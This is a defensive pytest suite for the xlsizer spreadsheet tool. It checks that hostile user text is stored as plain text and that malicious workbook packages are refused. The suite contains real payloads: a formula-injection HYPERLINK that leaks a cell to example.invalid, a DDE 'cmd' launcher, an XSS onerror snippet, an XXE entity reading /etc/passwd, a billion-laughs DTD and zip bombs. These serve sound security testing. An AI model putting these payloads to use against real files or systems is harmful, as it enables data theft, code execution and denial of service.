"""Hostile project files and hostile text (issue 15): user text is never a live formula or a live
link; a project file is refused, with the file, the name and the reason, before it can cost
unbounded time or memory. Every hostile file here is built by the test itself."""

from __future__ import annotations

import io
import re
import shutil
import time
import tracemalloc
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from xlsizer.batch import report_project, run_batch
from xlsizer.errors import ProjectFileError
from xlsizer.workbook import project as project_mod
from xlsizer.workbook import read_project, write_template
from xlsizer.workbook.checklist import ChecklistItem
from xlsizer.workbook.markdown import decision_log_markdown
from xlsizer.workbook.project import sheet_part
from xlsizer.workbook.safe import CELL_MAX_CHARS, md_text, put_text

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&Inputs!C6,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "=1+2", "+SUM(1)", "@SUM(1)", "-2+3")
MARKERS = ("HYPERLINK", "cmd|", "1+2", "SUM(1)", "2+3")


def _hostile_project(folder: Path, stem: str = "hostile") -> Path:
    items = [ChecklistItem(section=DDE, item=HYPERLINK, owner="=1+2", status="open", value="+SUM(1)",
                           reason="@SUM(1)", date=date(2026, 1, 2)),
             ChecklistItem(section="Use case", item="[click](http://example.invalid) <img src=x onerror=alert(1)>",
                           owner="-2+3", status="done", value=None, reason=None, date=None)]
    return write_template(folder / f"{stem}.xlsx", {"concurrent_users": 50, "currency": "=1+2"}, checklist=items,
                          name=HYPERLINK, notes=DDE)


def _formulas(path: Path) -> list[str]:
    """Every formula in a workbook's XML, as written (not as openpyxl reads it back)."""
    out = []
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                out += re.findall(r"<f[^>]*>(.*?)</f>", z.read(n).decode("utf-8"))
    return out


def test_put_text_never_writes_a_formula(tmp_path):
    wb = Workbook()
    ws = wb.active
    for i, p in enumerate(PAYLOADS, start=1):
        put_text(ws.cell(i, 1), p)
    put_text(ws.cell(10, 1), "x" * 40_000 + "\x00\x07")
    put_text(ws.cell(11, 1), 3.5)
    wb.save(tmp_path / "t.xlsx")
    assert _formulas(tmp_path / "t.xlsx") == []
    back = load_workbook(tmp_path / "t.xlsx").active
    assert [back.cell(i, 1).value for i in range(1, len(PAYLOADS) + 1)] == list(PAYLOADS)
    assert all(back.cell(i, 1).quotePrefix for i in range(1, len(PAYLOADS) + 1))
    assert len(back.cell(10, 1).value) == CELL_MAX_CHARS and "\x00" not in back.cell(10, 1).value
    assert back.cell(11, 1).value == 3.5


def test_template_and_new_project_store_hostile_text_as_text(tmp_path):
    path = _hostile_project(tmp_path)
    assert not [f for f in _formulas(path) if any(m in f for m in MARKERS)]
    proj = read_project(path)  # the text reads back as the user's text, not refused as a formula
    assert proj.name == HYPERLINK and proj.inputs.currency == "=1+2" and proj.notes == DDE
    assert proj.checklist[0].item == HYPERLINK


def test_reports_and_portfolio_hold_no_formula_from_input_text(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    _hostile_project(src)
    out = tmp_path / "out"
    summary = run_batch([src], out, progress=False)
    assert summary.failed == 0, summary.failures
    for wbpath in (out / "hostile-report.xlsx", out / "portfolio.xlsx"):
        bad = [f for f in _formulas(wbpath) if any(m in f for m in MARKERS)]
        assert bad == [], f"{wbpath.name}: live formulas from input text: {bad}"
    texts = [c.value for ws in load_workbook(out / "hostile-report.xlsx").worksheets
             for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert HYPERLINK in texts and DDE in texts, "the hostile text is kept, as text"


def test_failure_lines_in_portfolio_are_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("=cmd|' calc'!A0.xlsx").write_bytes(b"not a zip")
    summary = run_batch(["=cmd|' calc'!A0.xlsx"], "out", progress=False)
    assert summary.failed == 1 and summary.failures[0].startswith("=cmd|")
    assert [f for f in _formulas(tmp_path / "out" / "portfolio.xlsx") if "cmd" in f] == []


def test_markdown_has_no_live_link_or_html_from_input_text(tmp_path):
    proj = read_project(_hostile_project(tmp_path))
    from xlsizer.api import size

    text = decision_log_markdown(proj, size(proj.inputs))
    assert not re.search(r"(?<!\\)\]\(", text), "a live [text](link)"
    assert not re.search(r"(?<!\\)<[a-zA-Z]", text), "a live HTML tag"
    assert "http://" not in text, "a bare URL some renderers auto-link"
    assert "\\[click\\]" in text, "the text stays readable, escaped"
    assert md_text("a | b") == "a \\| b"


def test_defusedxml_is_installed_and_used_by_openpyxl():
    import openpyxl
    from openpyxl.xml import functions

    assert openpyxl.DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")
    assert project_mod.xml_defused()


# --- hostile packages --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def template_bytes(tmp_path_factory) -> bytes:
    return write_template(tmp_path_factory.mktemp("t") / "p.xlsx", {"concurrent_users": 100}).read_bytes()


def _rewrite(tmp_path: Path, raw: bytes, edit, name: str = "bad.xlsx") -> Path:
    """A copy of the package with ``edit(filename, data) -> data | None`` applied to each part
    (None drops it); ``edit`` may also return extra parts under the key ``"__add__"``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = edit(item.filename, zin.read(item.filename))
            if data is not None:
                zout.writestr(item.filename, data)
        for fname, data in (edit("__add__", b"") or {}).items():
            zout.writestr(fname, data)
    p = tmp_path / name
    p.write_bytes(out.getvalue())
    return p


def _with_name(tmp_path: Path, raw: bytes, name: str, target: str) -> Path:
    def edit(fname, data):
        if fname == "__add__":
            return None
        if fname == "xl/workbook.xml":
            return re.sub(rf'(<definedName name="{name}">)[^<]*(</definedName>)',
                          lambda m: m.group(1) + target + m.group(2), data.decode()).encode()
        return data
    return _rewrite(tmp_path, raw, edit)


@pytest.mark.parametrize(("target", "words"), [
    ("'Inputs'!$A$1:$XFD$1048576", "range"),   # 17 billion cells: grew past 9.6 GB before
    ("'Inputs'!$C$6:$C$8", "range"),
    ("'Inputs'!$C$6,'Inputs'!$C$7", "2 areas"),
    ("'Checklist'!$C$6", "'Checklist' sheet"),
    ("[1]Inputs!$C$6", "another workbook"),
    ("OFFSET(Inputs!$C$6,0,0)", "formula"),
    ("'Nowhere'!$C$6", "'Nowhere' sheet"),
])
def test_defined_name_must_be_one_cell_of_its_sheet(tmp_path, template_bytes, target, words):
    bad = _with_name(tmp_path, template_bytes, "model", target)
    tracemalloc.start()
    try:
        with pytest.raises(ProjectFileError) as exc:
            read_project(bad)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    msg = str(exc.value)
    assert "bad.xlsx" in msg and "'model'" in msg and words in msg, msg
    assert peak < 200 * 2**20, f"refusing took {peak / 2**20:.0f} MB"


def test_zip_bomb_part_is_refused_from_the_directory(tmp_path, template_bytes):
    big = b" " * (project_mod.MAX_PART_BYTES + 1)  # compresses to ~9 KB

    def edit(fname, data):
        if fname == "__add__":
            return None
        return data.replace(b"</worksheet>", big + b"</worksheet>") if fname == "xl/worksheets/sheet2.xml" else data
    bad = _rewrite(tmp_path, template_bytes, edit)
    assert bad.stat().st_size < 200_000
    with pytest.raises(ProjectFileError, match=r"bad\.xlsx: part 'xl/worksheets/sheet2\.xml' inflates to"):
        read_project(bad)


def test_too_many_cells_is_refused_before_parsing(tmp_path, template_bytes):
    catalog = sheet_part(template_bytes, "Catalog")
    cells = b"".join(b'<row r="%d"><c r="Z%d" t="n"><v>1</v></c></row>' % (r, r) for r in range(2000, 2000 + 60_000))

    def edit(fname, data):
        if fname == "__add__":
            return None
        if fname == catalog:
            return data.replace(b"</sheetData>", cells + b"</sheetData>")
        return data
    bad = _rewrite(tmp_path, template_bytes, edit)
    start = time.perf_counter()
    with pytest.raises(ProjectFileError, match="more than 50,000 cells"):
        read_project(bad)
    assert time.perf_counter() - start < 5.0  # loading it whole takes ~3 s and ~100 MB


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet2.xml", "xl/styles.xml"])
def test_xml_entities_are_refused(tmp_path, template_bytes, part):
    dtd = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
           b'<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')

    def edit(fname, data):
        if fname == "__add__":
            return None
        if fname == part:
            return dtd + re.sub(rb"^<\?xml[^>]*\?>", b"", data)
        return data
    bad = _rewrite(tmp_path, template_bytes, edit)
    with pytest.raises(ProjectFileError, match="DTD"):
        read_project(bad)


def test_checklist_far_down_is_refused_not_walked(tmp_path, template_bytes):
    checklist = sheet_part(template_bytes, "Checklist")

    def edit(fname, data):
        if fname == "__add__":
            return None
        if fname == checklist:
            return data.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="n"><v>1</v></c></row>'
                                                  b"</sheetData>")
        return data
    bad = _rewrite(tmp_path, template_bytes, edit)
    with pytest.raises(ProjectFileError, match="checklist runs to row 1,048,576"):
        read_project(bad)


def test_damaged_and_lying_packages_are_one_line(tmp_path, template_bytes):
    # a part whose data does not match its CRC/size: zipfile stops at the declared size
    raw = bytearray(template_bytes)
    i = raw.find(b"xl/worksheets/sheet2.xml") + 40
    raw[i:i + 64] = bytes(64)
    p = tmp_path / "damaged.xlsx"
    p.write_bytes(bytes(raw))
    with pytest.raises(ProjectFileError) as exc:
        read_project(p)
    assert "damaged.xlsx" in str(exc.value) and len(str(exc.value)) < 400


def test_huge_strings_in_cells_stay_short_in_errors(tmp_path, template_bytes):
    wb = load_workbook(io.BytesIO(template_bytes))
    sheet, ref = next(iter(wb.defined_names["model"].destinations))
    wb[sheet][ref.replace("$", "")] = "(" * 32_767
    p = tmp_path / "long.xlsx"
    wb.save(p)
    start = time.perf_counter()
    out = report_project(str(p), str(tmp_path / "r.xlsx"))
    assert out.failure is not None and len(out.failure) < 400, out.failure
    assert time.perf_counter() - start < 10.0


def test_batch_of_hostile_files_reports_each_and_carries_on(tmp_path, template_bytes):
    src = tmp_path / "in"
    src.mkdir()
    _with_name(src, template_bytes, "model", "'Inputs'!$A$1:$XFD$1048576").rename(src / "a-whole-sheet.xlsx")
    (src / "b-not-zip.xlsx").write_bytes(b"PK\x03\x04 nonsense")
    shutil.copy(write_template(tmp_path / "ok.xlsx", {"concurrent_users": 10}), src / "c-ok.xlsx")
    summary = run_batch([src], tmp_path / "out", progress=False)
    assert summary.total == 3 and summary.ok == 1 and summary.failed == 2
    assert any("a-whole-sheet.xlsx" in f and "'model'" in f for f in summary.failures)


def test_true_in_a_count_cell_is_an_error_naming_the_cell(tmp_path, template_bytes):
    wb = load_workbook(io.BytesIO(template_bytes))
    sheet, ref = next(iter(wb.defined_names["concurrent_users"].destinations))
    wb[sheet][ref.replace("$", "")] = True  # was sized as 1 user
    p = tmp_path / "true.xlsx"
    wb.save(p)
    with pytest.raises(ProjectFileError, match="TRUE/FALSE is not a number") as exc:
        read_project(p)
    assert exc.value.sheet == sheet and exc.value.cell == ref.replace("$", "")
